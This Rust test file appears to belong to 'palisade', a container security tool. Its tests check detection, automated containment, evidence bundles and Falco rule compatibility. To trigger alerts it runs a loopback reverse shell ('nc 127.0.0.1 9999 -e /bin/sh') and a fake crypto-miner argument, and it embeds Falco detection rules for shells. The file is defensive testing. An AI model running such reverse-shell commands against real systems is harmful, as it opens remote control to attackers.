//! `palisade watch` and `palisade respond` on a real container under attack.

use std::time::Duration;

use rustix::process::Signal;
use serde_json::Value;

use super::bed::{Bed, SOON, expect_dead, processes_of};
use crate::support::wait_for;

/// A policy that answers critical alerts with everything there is.
pub(crate) const ANSWER: &str = "version: 1
name: answer
images:
  verify: off
containers:
  user_namespace: private
  capabilities: []
  network: none
  limits: { pids: 128 }
runtime:
  priority_min: notice
response:
  - name: stop-it
    priority: critical
    actions: [freeze, isolate, evidence, kill]
";

/// What the container does when nobody attacks it.
pub(crate) const IDLE: &str = "while :; do sleep 1; done";

/// Actions on an incident's timeline with their results, in order.
pub(crate) fn actions(incident: &Value) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_string();
    let entries = incident["timeline"].as_array().unwrap().iter();
    entries
        .filter_map(|entry| {
            let what = entry.get("what").unwrap_or(entry);
            let action = what.get("action")?;
            Some((text(action), text(&what["result"])))
        })
        .collect()
}

#[test]
fn a_reverse_shell_is_seen_and_answered_as_the_policy_says() {
    let Some(bed) = Bed::new() else { return };
    std::fs::write(bed.path().join("answer.yaml"), ANSWER).unwrap();
    // By their full paths, or the shell would run its own and not a program of that name.
    let listen = format!("/bin/sleep 100 | /bin/nc -l -p 9999 >/dev/null & {IDLE}");
    let id = bed.detach("victim", &["--policy", "answer.yaml"], &listen);
    let watch = bed.watch(&["--policy", "answer.yaml", "--respond", "on", "--format", "json"]);

    // One writer of the journals at a time.
    bed.run(&["watch", "--duration", "1"]).expect_error(3, "in use by another process");

    let attack =
        ["exec", "victim", "--", "/bin/sh", "-c", "/bin/nc 127.0.0.1 9999 -e /bin/sh; exit 0"];
    let attack = bed.start(&attack);
    let incident = bed.incident(&id, "contained");
    assert_eq!(attack.wait(SOON).code, 137, "the attacker's own program died with the container");
    expect_dead(&id);
    assert_eq!(bed.status("victim"), "stopped");

    let alerts = bed.alerts();
    let alert = alerts.iter().find(|row| row[3] == "Reverse shell").expect("an alert");
    assert_eq!((alert[2].as_str(), alert[4].as_str()), ("Critical", "detected"), "{alert:?}");
    assert_eq!(
        (alert[8].as_str(), alert[10].as_str(), alert[11].as_str()),
        ("nc", "victim", "box:latest")
    );
    let lineage: Vec<&str> = alert[9].split(" > ").collect();
    assert!(lineage.ends_with(&["sh", "nc"]), "{lineage:?}");
    let latency_ms: f64 = alert[6].parse().unwrap();
    // How fast it is on a quiet machine, `make bench` measures.
    assert!((0.0..20_000.0).contains(&latency_ms), "{latency_ms}");
    // What was shown is what was journalled.
    let shown = watch.stdout();
    assert!(shown.lines().any(|line| line.contains(&alert[0])), "{shown}");
    for line in shown.lines() {
        let alert: Value = serde_json::from_str(line).unwrap();
        assert!(alert["container"]["id"].is_string(), "{alert}");
    }

    assert_eq!(
        actions(&incident),
        ["freeze", "isolate", "evidence", "kill"]
            .map(|name| (name.to_string(), "done".to_string()))
    );
    let bundles: Vec<_> =
        std::fs::read_dir(bed.data().join("evidence")).unwrap().flatten().collect();
    assert_eq!(bundles.len(), 1, "{bundles:?}");
    let bundle = bundles[0].path();
    let verified = bed.run(&["evidence", "verify", bundle.to_str().unwrap()]).expect(0);
    for expected in ["signed", "victim", "frozen throughout"] {
        assert!(verified.stdout.contains(expected), "{}", verified.stdout);
    }
    let list = bed.run(&["evidence", "list", bundle.to_str().unwrap()]).expect(0);
    assert!(list.stdout.contains("alert.json"), "{}", list.stdout);
    let file = bundle.to_str().unwrap();
    let timeline = bed.run(&["evidence", "timeline", file]).expect(0).stdout;
    for expected in ["collection begins", "process", "freeze: Done"] {
        assert!(timeline.contains(expected), "{expected}: {timeline}");
    }
    let same = bed.run(&["evidence", "diff", file, file]).expect(0).stdout;
    assert!(same.contains("nothing differs"), "{same}");
    bed.run(&["evidence", "report", file, "--html", "case.html"]).expect(0);
    let html = std::fs::read_to_string(bed.path().join("case.html")).unwrap();
    assert!(html.contains("evidence report") && html.contains("victim"), "{html}");
    let whole = std::fs::read(&bundle).unwrap();
    for part in 1..8 {
        let mut bytes = whole.clone();
        bytes[whole.len() * part / 9] ^= 1;
        std::fs::write(bed.path().join("changed.tar"), bytes).unwrap();
        let args = ["evidence", "verify", "changed.tar"];
        // Padding between the entries of an archive says nothing.
        let at = whole.len() * part / 9;
        let is_padding = whole[at.saturating_sub(64)..at + 64].iter().all(|byte| *byte == 0);
        if !is_padding {
            bed.run(&args).expect_error(1, "");
        }
    }

    let shown = bed.run(&["respond", "show", incident["id"].as_str().unwrap()]).expect(0).stdout;
    for expected in ["contained", "victim", "Reverse shell", "evidence: Done", "kill: Done"] {
        assert!(shown.contains(expected), "`{expected}` is not in {shown}");
    }
    bed.run(&["respond", "report", "latest", "--html", "incident.html"]).expect(0);
    let html = std::fs::read_to_string(bed.path().join("incident.html")).unwrap();
    assert!(html.contains("Reverse shell") && !html.contains("src=\"http"), "self-contained");

    watch.signal(Signal::TERM);
    let ended = watch.wait(SOON).expect(0);
    assert!(!ended.stderr.contains("warning"), "{}", ended.stderr);
    bed.run(&["respond", "close", incident["id"].as_str().unwrap()]).expect(0);
    bed.incident(&id, "closed");
    bed.run(&["stop", "victim"]).expect(0);
    bed.expect_nothing_left(&id);
}

#[test]
fn a_dry_run_says_what_it_would_do_and_off_does_nothing() {
    let Some(bed) = Bed::new() else { return };
    std::fs::write(bed.path().join("answer.yaml"), ANSWER).unwrap();
    let id = bed.detach("victim", &["--policy", "answer.yaml"], IDLE);
    for (mode, would) in [("dry-run", true), ("off", false)] {
        let watch = bed.watch(&["--policy", "answer.yaml", "--respond", mode]);
        let n_before = bed.alerts().len();
        bed.run(&["exec", "victim", "--", "/bin/busybox", "true", "stratum+tcp://pool"]).expect(0);
        wait_for("alert", SOON, || (bed.alerts().len() > n_before).then_some(()));
        watch.signal(Signal::TERM);
        let ended = watch.wait(SOON).expect(0);
        assert!(ended.stdout.contains("Crypto miner"), "{}", ended.stdout);
        assert_eq!(ended.stderr.contains("dry run: "), would, "{mode}: {}", ended.stderr);
        assert_eq!(bed.status("victim"), "running", "{mode}");
        assert!(!processes_of(&id).is_empty());
        assert!(bed.incidents().iter().all(|incident| actions(incident).is_empty()));
    }
    // Nothing of it is caught up with later.
    let watch = bed.watch(&["--policy", "answer.yaml", "--respond", "on"]);
    std::thread::sleep(Duration::from_millis(500));
    watch.signal(Signal::TERM);
    watch.wait(SOON).expect(0);
    assert_eq!(bed.status("victim"), "running");
}

#[test]
fn a_person_freezes_isolates_collects_releases_and_kills() {
    let Some(bed) = Bed::new() else { return };
    let script = "echo served >/tmp/index.html; httpd -p 8080 -h /tmp; while :; do echo tick; sleep 0.05; done";
    let id = bed.detach("shop", &[], script);
    let log = bed.data().join("logs/shop.log");
    let n_ticks = || std::fs::metadata(&log).unwrap().len();
    let grows = || {
        let before = n_ticks();
        std::thread::sleep(Duration::from_millis(400));
        n_ticks() > before
    };
    let act = |action: &str| bed.run(&["respond", action, "shop"]);
    // Not by wget: it looks names up, for which a static program has no libraries.
    let ask = "printf 'GET /index.html HTTP/1.0\\r\\n\\r\\n' | /bin/nc -w 1 127.0.0.1 8080";
    let asks = || bed.run(&["exec", "shop", "--", "/bin/sh", "-c", ask]).stdout.contains("served");
    wait_for("web server", SOON, || asks().then_some(()));

    assert!(act("isolate").expect(0).stdout.starts_with("isolate: Done"));
    assert!(!asks(), "no packet passes");
    // Only the network is cut.
    wait_for("life", SOON, || grows().then_some(()));
    assert!(act("freeze").expect(0).stdout.starts_with("freeze: Done"));
    wait_for("stillness", SOON, || (!grows()).then_some(()));
    assert!(act("freeze").expect(0).stdout.starts_with("freeze: Unchanged"));

    let collect = ["respond", "collect", "--output", "by-hand.tar", "shop"];
    let collected = bed.run(&collect).expect(0);
    assert!(collected.stdout.starts_with("by-hand.tar: "), "{}", collected.stdout);
    let verified = bed.run(&["evidence", "verify", "by-hand.tar"]).expect(0);
    assert!(verified.stdout.contains("frozen throughout"), "{}", verified.stdout);
    bed.run(&["evidence", "extract", "by-hand.tar", "out"]).expect(0);
    assert!(bed.path().join("out").is_dir());
    assert!(!grows(), "collecting does not thaw");

    act("release").expect(0);
    wait_for("life", SOON, || grows().then_some(()));
    wait_for("web server", SOON, || asks().then_some(()));
    assert!(act("kill").expect(0).stdout.starts_with("kill: Done"));
    expect_dead(&id);
    bed.run(&["stop", "shop"]).expect(0);
    bed.expect_nothing_left(&id);
}

#[test]
fn starting_a_container_and_a_program_in_it_raises_nothing_above_notice() {
    let Some(bed) = Bed::new() else { return };
    let watch = bed.watch(&["--fold-seconds", "0"]);
    bed.detach("calm", &[], IDLE);
    bed.run(&["exec", "calm", "--", "/bin/true"]).expect(0);
    // By then everything before has been seen.
    bed.run(&["exec", "calm", "--", "/bin/busybox", "true", "stratum+tcp://pool"]).expect(0);
    let of_it = || -> Vec<(String, String)> {
        let rows = bed.alerts().into_iter().filter(|row| row[10] == "calm");
        rows.map(|row| (row[2].clone(), row[3].clone())).collect()
    };
    wait_for("alert", SOON, || {
        of_it().iter().any(|(_, rule)| rule == "Crypto miner").then_some(())
    });
    watch.signal(Signal::TERM);
    watch.wait(SOON).expect(0);
    let above: Vec<_> = of_it().into_iter().filter(|(priority, _)| priority != "Notice").collect();
    assert_eq!(above, [("Critical".to_string(), "Crypto miner".to_string())]);
}

/// As rule authors write them for Falco: lists, macros, an exception, an override, and
/// its names of fields.
const FALCO_RULES: &str = r#"- required_engine_version: 0.31.0

- list: shell_binaries
  items: [ash, bash, csh, ksh, sh, zsh]

- macro: spawned_process
  condition: (evt.type in (execve, execveat) and evt.dir=<)

- macro: container
  condition: (container.id != host)

- rule: Shell In Container
  desc: >
    A shell was started in a container.
  condition: >
    spawned_process and container
    and proc.name in (shell_binaries)
    and not proc.cmdline startswith "sh -c healthcheck"
  output: Shell in a container | user=%user.name proc=%proc.name cmd=%proc.cmdline parent=%proc.pname evt=%evt.type container_id=%container.id container_name=%container.name
  priority: NOTICE
  tags: [maturity_sandbox, container, shell, mitre_execution, T1059]
  exceptions:
    - name: known_commands
      fields: [proc.name, proc.cmdline]
      comps: [=, contains]
      values:
        - [sh, allowed-by-exception]

- rule: Shell In Container
  output: and more
  priority: WARNING
  override:
    output: append
    priority: replace
"#;

#[test]
fn a_falco_rule_file_loads_unchanged_and_fires() {
    let Some(bed) = Bed::new() else { return };
    std::fs::write(bed.path().join("falco.yaml"), FALCO_RULES).unwrap();
    bed.run(&["rules", "check", "falco.yaml"]).expect(0);
    bed.detach("web", &[], IDLE);
    let watch =
        bed.watch(&["--rules", "falco.yaml", "--no-builtin-rules", "--format", "falco-json"]);
    let shell = |text: &str| bed.run(&["exec", "web", "--", "/bin/sh", "-c", text]).expect(0);
    shell("healthcheck() { :; }; : allowed-by-exception");
    shell("echo attack | wc -c");
    bed.run(&["exec", "web", "--", "/bin/true"]).expect(0);
    // Other containers of this machine are watched as well.
    let ours = |text: &str| -> Vec<String> {
        text.lines()
            .filter(|line| line.contains("container_name=web"))
            .map(str::to_string)
            .collect()
    };
    let line = wait_for("alert", SOON, || ours(&watch.stdout()).pop());
    watch.signal(Signal::TERM);
    let ended = watch.wait(SOON).expect(0);
    assert_eq!(ours(&ended.stdout).len(), 1, "{}", ended.stdout);

    let alert: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(alert["rule"], "Shell In Container");
    assert_eq!(alert["priority"], "Warning");
    assert_eq!(alert["source"], "syscall");
    let output = alert["output"].as_str().unwrap();
    assert!(
        output.contains("cmd=sh -c echo attack | wc -c") && output.ends_with("and more"),
        "{output}"
    );
    assert_eq!(alert["output_fields"]["container.name"], "web");
    assert_eq!(alert["output_fields"]["proc.name"], "sh");
    assert!(alert["tags"].as_array().unwrap().contains(&"T1059".into()));
    for field in ["time", "hostname"] {
        assert!(alert[field].is_string(), "{alert}");
    }
}
